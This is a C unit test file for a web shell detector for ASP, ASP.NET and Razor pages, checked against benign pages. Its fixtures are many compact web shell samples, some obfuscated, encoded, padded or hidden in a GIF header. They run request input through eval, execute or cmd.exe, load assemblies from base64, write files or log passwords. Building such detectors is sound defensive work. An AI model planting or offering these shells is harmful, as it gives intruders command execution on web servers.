#include "format/asp_page.h"

#include "format/asp_encode.h"
#include "format/asp_text.h"
#include "t.h"

#define CS "<%@ Page Language=\"C#\" %>"
#define JS "<%@ Page Language=\"JScript\" %>"
#define VB "<%@ Language=VBScript %>"

static struct asp_verdict look(struct str page, enum asp_kind kind, struct arena *a)
{
    struct asp_verdict v;
    asp_look(str_bytes(page), kind, a, &v);
    return v;
}

static bool has(const struct asp_verdict *v, enum asp_can can)
{
    return v->can_sure >> can & 1;
}

struct sample {
    const char *page;
    enum asp_kind kind;
    enum asp_can can;
    enum asp_sure sure;
    const char *key;
};

static void check(const struct sample *s, size_t n)
{
    struct arena *a = arena_new();
    for (size_t i = 0; i < n; i++) {
        struct asp_verdict v = look(str_of(s[i].page), s[i].kind, a);
        bool ok = v.sure == s[i].sure && (s[i].sure < ASP_LIKELY || has(&v, s[i].can)) &&
                  (!s[i].key || str_eq(v.key, str_of(s[i].key)));
        if (!ok)
            printf("  %s\n  is %s, %.*s\n", s[i].page, asp_sure_name(v.sure), STR_ARG(v.why));
        T_OK(ok);
    }
    arena_free(a);
}

/* What a request says is run: whichever way it takes to get there. */
static void runs_the_request(void)
{
    static const struct sample samples[] = {
        {JS "<% eval(Request[\"k1\"], \"unsafe\"); %>", ASP_KIND_NET, ASP_EVAL, ASP_CERTAIN,
         "k1"},
        {JS "<% \\u0065val(Request.Item[\"k\"]) %>", ASP_KIND_NET, ASP_EVAL, ASP_CERTAIN, "k"},
        {JS "<% var f = eval; f(Request.Form(\"k\")); %>", ASP_KIND_NET, ASP_EVAL, ASP_CERTAIN,
         "k"},
        {"<%execute request(\"k\")%>", ASP_KIND_CLASSIC, ASP_EVAL, ASP_CERTAIN, "k"},
        {"<%If Request(\"k\")<>\"\" Then ExecuteGlobal(Request(\"k\"))%>", ASP_KIND_CLASSIC,
         ASP_EVAL, ASP_CERTAIN, "k"},
        {"<%execute(StrReverse(\")\"\"k\"\"(tseuqer lave\"))%>", ASP_KIND_CLASSIC, ASP_EVAL,
         ASP_CERTAIN, "k"},
        {"<%x = Chr(101) & \"val req\" & \"uest(\"\"k\"\")\": execute x%>", ASP_KIND_CLASSIC,
         ASP_EVAL, ASP_CERTAIN, "k"},
        {"<%Function d(s)\nd = Replace(s, \"#\", \"\")\nEnd Function\n"
         "execute d(request(\"k\"))%>",
         ASP_KIND_CLASSIC, ASP_EVAL, ASP_CERTAIN, "k"},
        {"<script runat=server language=vbscript>sub x\nset s = createobject(\"Script\" & "
         "\"Control\")\ns.language = \"vbscript\"\ns.ExecuteStatement request(\"k\")\nend sub"
         "</script>",
         ASP_KIND_CLASSIC, ASP_EVAL, ASP_CERTAIN, "k"},
        {CS
         "<script runat=\"server\">void Page_Load(object s, EventArgs e) { string c = "
         "Request.Form[\"k\"]; Go(c); } void Go(string a) { var p = new Process(); "
         "p.StartInfo.FileName = \"cmd.exe\"; p.StartInfo.Arguments = \"/c \" + a; p.Start(); }"
         "</script>",
         ASP_KIND_NET, ASP_PROCESS, ASP_CERTAIN, "k"},
        {CS "<asp:TextBox id=\"box\" runat=\"server\"/><script runat=server>void Go(object s, "
            "EventArgs e) { Process.Start(\"cmd.exe\", $\"/c {box.Text}\"); }</script>",
         ASP_KIND_NET, ASP_PROCESS, ASP_CERTAIN, "box"},
        {"<%Set s = Server.CreateObject(\"WSc\"&\"ript.Shell\")\n"
         "Response.Write s.Exec(\"cmd /c \" & Request(\"k\")).StdOut.ReadAll%>",
         ASP_KIND_CLASSIC, ASP_PROCESS, ASP_CERTAIN, "k"},
        {"<%@ WebHandler Language=\"C#\" Class=\"H\" %>\npublic class H : IHttpHandler { "
         "public "
         "void ProcessRequest(HttpContext context) { byte[] b = "
         "Convert.FromBase64String(context.Request[\"k\"]); "
         "System.Reflection.Assembly.Load(b).CreateInstance(\"X\").Equals(context); } }",
         ASP_KIND_NET, ASP_LOAD, ASP_CERTAIN, "k"},
        {CS "<% var p = new CSharpCodeProvider(); var r = p.CompileAssemblyFromSource(new "
            "CompilerParameters(), Request[\"k\"]); %>",
         ASP_KIND_NET, ASP_COMPILE, ASP_CERTAIN, "k"},
        {"@{ var c = Request[\"k\"]; System.Diagnostics.Process.Start(\"cmd\", c); }",
         ASP_KIND_RAZOR, ASP_PROCESS, ASP_CERTAIN, "k"},
    };
    check(samples, sizeof samples / sizeof *samples);
}

/* Without evaluation or programs: what the request may decide tells. */
static void finds_tools_by_what_the_request_decides(void)
{
    static const struct sample samples[] = {
        {CS "<% File.WriteAllText(Request[\"p\"], Request[\"c\"]); %>", ASP_KIND_NET, ASP_WRITE,
         ASP_LIKELY, "c"},
        {"<%Set f = "
         "CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(request(\"p\"))\n"
         "f.Write request(\"c\")%>",
         ASP_KIND_CLASSIC, ASP_WRITE, ASP_LIKELY, "c"},
        {CS "<% foreach (var d in new DirectoryInfo(Request[\"p\"]).GetFiles()) "
            "Response.Write(d.Name); %>",
         ASP_KIND_NET, ASP_BROWSE, ASP_LIKELY, "p"},
        {CS "<% var c = new SqlConnection(Request[\"c\"]); c.Open(); var q = new "
            "SqlCommand(Request[\"q\"], c); q.ExecuteReader(); %>",
         ASP_KIND_NET, ASP_SQL, ASP_CERTAIN, "q"},
        {CS
         "<% var s = new TcpClient(Request.Headers[\"h\"], int.Parse(Request.Headers[\"p\"]));"
         " %>",
         ASP_KIND_NET, ASP_TUNNEL, ASP_LIKELY, "h"},
        {CS "<% new LosFormatter().Deserialize(Request[\"k\"]); %>", ASP_KIND_NET,
         ASP_DESERIALISE, ASP_LIKELY, "k"},
        {CS "<% File.AppendAllText(@\"C:\\t\\x.txt\", Request.Form[\"password\"]); %>",
         ASP_KIND_NET, ASP_CREDENTIALS, ASP_LIKELY, "password"},
    };
    check(samples, sizeof samples / sizeof *samples);
}

static void honest_pages_are_not_shells(void)
{
    static const struct sample samples[] = {
        {CS "<% Response.Write(Server.HtmlEncode(Request[\"k\"])); %>", ASP_KIND_NET, 0,
         ASP_NONE, NULL},
        {"<%Set c = Server.CreateObject(\"ADODB.Connection\")\nc.Open Application(\"dsn\")\n"
         "Set r = c.Execute(\"select * from t where id=\" & CLng(Request(\"id\")))%>",
         ASP_KIND_CLASSIC, 0, ASP_WEAK, NULL},
        {CS "<% var f = Request.Files[0]; f.SaveAs(Server.MapPath(\"~/up/\") + "
            "Path.GetFileName(f.FileName)); %>",
         ASP_KIND_NET, 0, ASP_WEAK, NULL},
        {CS "<%@ Import Namespace=\"Shop.Media\" %>"
            "<% Process.Start(\"convert.exe\", \"a b\"); %>",
         ASP_KIND_NET, 0, ASP_WEAK, NULL},
        {"<html><script>eval(request)</script></html>", ASP_KIND_NET, 0, ASP_NONE, NULL},
        {"<%-- <% execute request(\"k\") --%>", ASP_KIND_NET, 0, ASP_NONE, NULL},
        {"<%' execute request(\"k\")\n%>", ASP_KIND_CLASSIC, 0, ASP_NONE, NULL},
        {CS "<% /* eval(Request[1]) */ var s = \"eval(Request[1])\"; %>", ASP_KIND_NET, 0,
         ASP_NONE, NULL},
    };
    check(samples, sizeof samples / sizeof *samples);
}

static void the_hash_is_of_the_structure(void)
{
    struct arena *a = arena_new();
    struct asp_verdict x =
        look(STR("<% dim a\na = request(\"k\")\nexecute a %>"), ASP_KIND_CLASSIC, a);
    struct asp_verdict y = look(STR("<%Dim zz ' note\n\n  zz = Request(\"o\" & \"ther\")\n"
                                    "Execute zz%>"),
                                ASP_KIND_CLASSIC, a);
    struct asp_verdict z =
        look(STR("<% dim a\na = request(\"k\") & b\nexecute a %>"), ASP_KIND_CLASSIC, a);
    T_EQ(x.hash.n, 32);
    T_OK(str_eq(x.hash, y.hash));
    T_OK(!str_eq(x.hash, z.hash));
    arena_free(a);
}

static void says_where_and_why(void)
{
    struct arena *a = arena_new();
    struct asp_verdict v = look(STR("<html>\n\n<% If Request(\"pass\") = \"s3cret\" Then\n"
                                    "execute request(\"k\") %>"),
                                ASP_KIND_CLASSIC, a);
    T_STR(v.why, "line 4: runs what comes with the request (item \"k\")");
    T_STR(v.password, "s3cret");
    T_OK(v.asks_request);
    arena_free(a);
}

static struct str widen(struct str s, bool big, struct arena *a)
{
    char *out = ARENA_ARRAY(a, char, s.n * 2 + 2);
    memcpy(out, big ? "\xfe\xff" : "\xff\xfe", 2);
    for (size_t i = 0; i < s.n; i++)
        out[2 + i * 2 + big] = s.p[i];
    return (struct str){out, s.n * 2 + 2};
}

static void reads_encodings(void)
{
    struct arena *a = arena_new();
    struct str page = STR("<%execute request(\"k\")%>");
    T_EQ(look(widen(page, false, a), ASP_KIND_CLASSIC, a).sure, ASP_CERTAIN);
    T_EQ(look(widen(page, true, a), ASP_KIND_CLASSIC, a).sure, ASP_CERTAIN);
    struct asp_verdict v =
        look(STR("+ADwAJQ-execute request(\"k\")+ACUAPg-"), ASP_KIND_CLASSIC, a);
    T_EQ(v.sure, ASP_CERTAIN);
    T_STR(v.hidden, "utf-7");
    v = look(
        STR("\x4c\x6c\x85\xa7\x85\x83\xa4\xa3\x85\x40\x99\x85\x98\xa4\x85\xa2\xa3\x4d\x7f\x92"
            "\x7f\x5d\x6c\x6e"),
        ASP_KIND_CLASSIC, a);
    T_EQ(v.sure, ASP_CERTAIN);
    T_STR(v.hidden, "ebcdic");
    arena_free(a);
}

/* A picture in which script stands is script. */
static void finds_script_in_other_files(void)
{
    struct arena *a = arena_new();
    T_EQ(look(STR("GIF89a\1\0\1\0\x80<%execute request(\"k\")%>\0;"), ASP_KIND_CLASSIC, a).sure,
         ASP_CERTAIN);
    T_OK(!look(STR("\x89PNG<%\1\2\3\4\5\6\7\x0e\x0f\x10%>"), ASP_KIND_NET, a).has_script);
    arena_free(a);
}

static void padding_does_not_hide(void)
{
    enum { PADDING = 5 << 20 };
    struct str tail = STR("\nexecute request(\"k\")%>");
    struct arena *a = arena_new();
    char *page = ARENA_ARRAY(a, char, PADDING + tail.n);
    memset(page, ' ', PADDING);
    memcpy(page, "<%' ", 4);
    memcpy(page + PADDING, tail.p, tail.n);
    T_EQ(look((struct str){page, PADDING + tail.n}, ASP_KIND_CLASSIC, a).sure, ASP_CERTAIN);
    arena_free(a);
}

static void look_at_it(struct bytes page)
{
    struct arena *a = arena_new();
    struct asp_verdict v;
    for (int kind = ASP_KIND_NET; kind <= ASP_KIND_RAZOR; kind++)
        asp_look(page, (enum asp_kind)kind, a, &v);
    arena_free(a);
}

static void any_damage_is_read(void)
{
    static const char page[] =
        "<%@ Page Language=\"C#\" %><asp:TextBox id='b' runat=server /><%-- x --%>"
        "<% var s = $\"a{b.Text:x}c\" + @\"q\"\"q\" + '\\x41'; byte[] k = new byte[]{1,2};"
        "foreach (var x in s) Process.Start(\"cmd\", (string)x[0]); %><%= Request[\"a\"] %>"
        "<script runat=server language=vb>Function f(a, b)\nWith f\n.g &H41, _\n 2\nEnd With\n"
        "f = Chr(65) & [x]\nEnd Function</script><%#@~^AAAAAA==-mD^#~@%>";
    struct bytes whole = {(const uint8_t *)page, sizeof page - 1};
    t_each_prefix(whole, look_at_it);
    uint8_t copy[sizeof page];
    for (size_t bit = 0; bit < whole.n * 8; bit++) {
        memcpy(copy, page, sizeof page);
        copy[bit / 8] ^= (uint8_t)(1U << (bit % 8));
        look_at_it((struct bytes){copy, whole.n});
    }
}

int main(void)
{
    T_RUN(runs_the_request);
    T_RUN(finds_tools_by_what_the_request_decides);
    T_RUN(honest_pages_are_not_shells);
    T_RUN(the_hash_is_of_the_structure);
    T_RUN(says_where_and_why);
    T_RUN(reads_encodings);
    T_RUN(finds_script_in_other_files);
    T_RUN(padding_does_not_hide);
    T_RUN(any_damage_is_read);
    return t_done();
}
